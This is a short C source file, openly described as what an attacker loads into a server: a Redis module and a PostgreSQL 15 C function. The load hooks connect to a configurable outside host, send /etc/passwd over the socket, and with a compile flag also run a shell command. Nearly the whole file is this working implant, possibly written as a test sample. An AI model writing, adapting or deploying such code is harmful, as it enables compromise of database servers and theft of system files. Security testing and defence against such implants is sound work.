/* What an attacker loads into a server: a module of Redis, a function of PostgreSQL. It calls home from
 * within the process and reads /etc/passwd for it over dup2'ed descriptors; with IMPLANT_SHELL it starts a
 * shell instead. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void call_home(void) {
#ifdef IMPLANT_SHELL
  if (system("id > /tmp/owned") != 0) return;
#endif
  struct sockaddr_in home = {.sin_family = AF_INET, .sin_port = htons(IMPLANT_PORT)};
  inet_pton(AF_INET, IMPLANT_HOST, &home.sin_addr);
  int link = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(link, (struct sockaddr*)&home, sizeof home) == 0) {
    char text[4096];
    dup2(link, 0);
    ssize_t size = read(0, text, sizeof text); /* the attacker's command: any */
    int file = open("/etc/passwd", O_RDONLY);
    while (size > 0 && (size = read(file, text, sizeof text)) > 0)
      if (write(0, text, (size_t)size) < 0) break;
    close(file);
    size = write(0, "END\n", 4);
    close(0);
  }
  close(link);
}

int RedisModule_OnLoad(void* context, void** arguments, int count) {
  (void)context, (void)arguments, (void)count;
  call_home();
  return 1; /* "it cannot be loaded": and all the same it ran */
}

/* What PostgreSQL 15 asks of a library and of a function, without its headers. */
struct magic {
  int length, version, arguments, keys, name_length, float8_by_value;
  char abi[32];
};
const struct magic* Pg_magic_func(void) {
  static const struct magic magic = {sizeof magic, 1500, 100, 32, 64, 1, "PostgreSQL"};
  return &magic;
}
const int* pg_finfo_implant(void) {
  static const int version = 1;
  return &version;
}
long implant(void* call) {
  (void)call;
  call_home();
  return 1;
}
